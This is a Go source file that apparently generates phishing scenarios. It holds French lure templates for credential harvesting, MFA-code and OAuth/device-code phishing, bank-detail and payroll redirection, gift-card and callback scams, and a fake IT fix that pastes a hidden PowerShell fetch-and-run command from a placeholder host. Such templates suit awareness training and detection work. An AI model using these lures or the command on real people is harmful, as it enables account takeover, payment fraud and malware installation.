package scenario

// luresFR are lures in French; luresEN says which cases they follow.
var luresFR = []script{
	{kind: "thread-link", reply: true, path: "/d/{tok}/{ref}", body: `[le fichier était trop lourd pour un mail, je l'ai déposé ici|comme convenu, la version corrigée|désolé pour le retard, tout est regroupé ici] : {link}

[Dites-moi si vous arrivez à l'ouvrir.|Merci de regarder surtout la page 3.|Le lien est valable jusqu'à {weekday}.]`},
	{kind: "thread-link", reply: true, path: "/f/{tok}", body: `je reviens vers vous à ce sujet : une erreur s'est glissée dans notre [tableau|liste], la bonne version est [ici|là] : {link:{ref}.xlsx}. [Pouvez-vous vérifier votre partie aujourd'hui ?|Merci de ne plus utiliser l'ancienne.]`},
	{kind: "shared-document", path: "/s/{tok}", subject: "{from} a partagé « {project} {month} » avec vous", body: `[je vous ai partagé un document|un dossier est à votre disposition] : {link:{project} {month}.pdf}

[Il est protégé, connectez-vous avec votre compte professionnel.|L'accès est réservé à {toMail}.]`},
	{kind: "shared-document", path: "/doc/{tok}?e={toMail}", subject: "[Proposition|Avenant] {ref}", body: `[vous trouverez notre proposition pour {project} sous le lien suivant|le document est déposé dans notre espace] : {link:Ouvrir {ref}}

[Un retour avant {weekday} nous arrangerait.|Il nous faut votre accord avant la réunion de {weekday}.]`},
	{kind: "credential-page", path: "/auth/{tok}", subject: "Migration de votre accès {system}", body: `[{system} change de plateforme ce soir|la connexion à {system} change {weekday}]. Pour que votre compte soit repris, merci de vous connecter une fois sur la nouvelle page : {link}

[Les comptes non confirmés seront bloqués demain.|Cela prend moins d'une minute, l'identifiant et le mot de passe restent les mêmes.]`},
	{kind: "mailbox-quota", from: "desk", path: "/q/{tok}", subject: "Votre boîte {toMail} est pleine à 98 %", body: `votre messagerie a [atteint|presque atteint] sa limite (49,2 Go sur 50). [À partir de {time} les nouveaux messages seront refusés.|Douze messages sont en attente sur le serveur.]

Pour obtenir de l'espace supplémentaire : {link:Ajouter 25 Go}

Le support {partner}`},
	{kind: "mfa-push", subject: "Vérification de votre double authentification", body: `[nous changeons de fournisseur pour la double authentification|suite à un incident nous avons réinitialisé plusieurs comptes, dont le vôtre]. Vous allez recevoir une demande sur votre téléphone [dans quelques minutes|vers {time}], merci de l'accepter [tout de suite|même si elle arrive deux fois]. [Si un nombre est demandé : {num}.|]`},
	{kind: "mfa-push", reply: true, body: `je suis en train de m'en occuper. Vous allez recevoir un code par SMS, [pouvez-vous me le renvoyer ici|répondez-moi avec les six chiffres, s'il vous plaît] ? [Il n'est valable que cinq minutes.|]`},
	{kind: "oauth-consent", path: "/oauth2/authorize?client_id={tok}&scope=Mail.Read+offline_access&response_type=code", subject: "Connecteur {system} pour votre agenda", body: `[pour que les tickets arrivent directement dans votre agenda, nous avons ajouté un connecteur|le module de suivi que vous connaissez est maintenant prêt pour {client}]. Ouvrez {link:cette page} et cliquez une fois sur Accepter. [Aucun mot de passe n'est nécessaire.|Les autorisations affichées sont les habituelles.]`},
	{kind: "device-code", path: "/device", subject: "Connexion à la réunion de {weekday}", body: `[la nouvelle salle fonctionne avec un code au lieu d'un lien|la réunion se tient dans notre espace invité]. Avant de commencer, ouvrez {link}, saisissez

    {code}

puis validez avec votre compte {client}. [Le code est valable 15 minutes.|Faites-le juste avant {time}.]`},
	{kind: "callback", from: "finance", subject: "Renouvellement {system}, commande {ref}", body: `[merci pour votre renouvellement|votre commande est enregistrée]. La somme de {amount} sera prélevée [{weekday}|sous 48 heures].

[Si vous n'êtes pas à l'origine de cette commande, appelez notre service de facturation au {phone} avant cette date.|Questions et annulation uniquement par téléphone : {phone}.]`},
	{kind: "callback", reply: true, body: `[je ne peux pas vous expliquer cela par mail. Rappelez-moi sur mon nouveau numéro, le {phone}, de préférence maintenant.|notre équipe sécurité souhaite vous parler à ce sujet : {phone}. Merci d'appeler devant votre poste allumé.]`},
	{kind: "bank-change", from: "finance", subject: "[Changement de coordonnées bancaires|Nouveau RIB {partner}]", body: `[en raison d'un audit notre compte auprès de {oldbank} n'accepte plus de virements|nous avons changé de banque]. Merci de régler toutes les factures en cours et à venir sur le compte suivant :

Titulaire : {partner}
IBAN : {iban}
Banque : {bank}

[Merci de nous confirmer la prise en compte et la date du prochain règlement.|Nos bureaux déménagent cette semaine, nous ne sommes joignables que par mail.]`},
	{kind: "bank-change", reply: true, from: "finance", body: `[avant de valider : notre compte a changé.|merci de suspendre ce virement, le compte indiqué n'est plus le nôtre.] Le bon est {iban} ({bank}). [La nouvelle facture suit.|Quand partira le règlement ?]`},
	{kind: "invoice-redirect", from: "finance", file: "pdf-iban", subject: "Facture rectifiée {ref}", body: `[veuillez trouver ci-joint la facture {ref} rectifiée, la première portait une ancienne adresse de paiement|ci-joint à nouveau {ref}, le premier exemplaire comportait une erreur]. Merci de ne comptabiliser que celle-ci. [L'échéance étant dépassée, un règlement cette semaine serait apprécié.|]`},
	{kind: "payroll-change", toRole: "hr", subject: "Mon compte bancaire", body: `j'ai changé de banque et je souhaite que [mon salaire et mes frais soient versés|le prochain versement soit fait] sur le nouveau compte. Est-ce possible avant le {date} ?

{iban}, {bank}

[Je n'ai pas accès au portail en ce moment, merci de le faire pour moi.|De quoi avez-vous besoin ?]`},
	{kind: "gift-card", from: "manager", subject: "[Petit service|Êtes-vous disponible ?]", body: `[avez-vous une minute ? Je suis en réunion et ne peux pas téléphoner|j'ai besoin de votre aide, en toute discrétion pour l'instant]. Il me faudrait cinq cartes cadeaux de 100 euros pour l'équipe du projet, [Amazon ou Apple|de n'importe quelle enseigne]. Pouvez-vous les acheter [ce midi|maintenant] et m'envoyer les codes en photo ? [Je vous rembourse ce soir.|]`},
	{kind: "remote-tool", path: "/Bin/Support.Client.exe?h={tok}&i={client}", subject: "Agent de support sur {device}", body: `[l'agent de {device} ne répond plus|nous ne voyons plus {device} depuis ce matin]. Merci de télécharger et de lancer la version actuelle : {link:Client de support}

[Windows affiche un avertissement car le certificat est nouveau, choisissez Exécuter quand même.|L'installation est automatique, je prends la suite.]`},
	{kind: "qr-code", file: "qr", path: "/v/{tok}", subject: "Votre certificat de connexion expire", body: `[le certificat de votre téléphone expire {weekday}|la nouvelle application doit être associée à votre compte]. Merci de scanner le code ci-dessous avec votre téléphone et de suivre les étapes. [Cela ne fonctionne pas depuis l'ordinateur.|]`},
	{kind: "html-form", file: "html-form", from: "finance", subject: "Avis de paiement {ref}", body: `[vous trouverez l'avis de paiement en pièce jointe|l'avis est joint à ce message]. [Saisissez le mot de passe de votre messagerie pour l'ouvrir.|Il s'ouvre après connexion, pour des raisons de confidentialité.]`},
	{kind: "encrypted-zip", reply: true, file: "zip-script", body: `[veuillez trouver les documents demandés en pièce jointe|merci de regarder le fichier joint]. Mot de passe : {pw}`},
	{kind: "meeting-invite", file: "ics-link", path: "/j/{tok}", subject: "Point {client} / {partner}", body: `[merci d'accepter l'invitation|j'ai programmé un appel]. Connexion : {link} [Identifiez-vous avec votre compte professionnel, les invités ne sont pas admis cette fois.|]`},
	{kind: "e-signature", path: "/sign/{tok}", subject: "À signer : avenant {ref}", body: `[l'avenant est prêt à être signé|il ne manque que votre signature]. {link:Consulter et signer} [Le délai expire {weekday}.|]`},
	{kind: "command", subject: "Correctif pour la [connexion VPN|messagerie]", body: `depuis la mise à jour d'hier certains postes ne se connectent plus, dont le vôtre. Voici la marche à suivre :

1. appuyez sur Windows et R
2. collez cette ligne et validez
   powershell -w hidden -c "iwr https://{foehost}/{tok} | iex"
3. attendez la fermeture de la fenêtre

[Prévenez-moi quand c'est fait.|]`},
	{kind: "mass-mailing", mass: true, path: "/m/{tok}", subject: "[Information importante à tous nos clients|Nouvelles conditions {month}]", body: `[nous avons mis à jour nos conditions et la liste de nos interlocuteurs|comme annoncé, nos services évoluent le mois prochain]. Merci de les confirmer ici : {link}

[Sans confirmation nous ne pourrons garantir la continuité du service.|La page reste ouverte jusqu'à {weekday}.]`},
	{kind: "supplier-portal", from: "finance", path: "/register/{tok}", subject: "Notre nouveau portail fournisseurs", body: `[à partir de ce mois nos factures ne sont disponibles que sur le portail|commandes et factures passent désormais par notre nouveau portail]. Merci de vous inscrire avec votre adresse professionnelle et son mot de passe : {link:Inscrire {client}} [Votre numéro de client est {ref}.|]`},
	{kind: "voicemail", from: "desk", path: "/vm/{tok}", subject: "Nouveau message vocal, {num} secondes", body: `vous avez un nouveau message vocal de {colleague}, {num} secondes, reçu aujourd'hui à {time}.

{link:Écouter le message}`},
	{kind: "secure-message", path: "/secure/{tok}", subject: "Confidentiel : {project}", body: `[vu son contenu, ce message passe par notre boîte sécurisée|notre service juridique souhaite un envoi chiffré]. {link:Lire le message chiffré} [La première fois, identifiez-vous avec le mot de passe de votre messagerie.|]`},
}
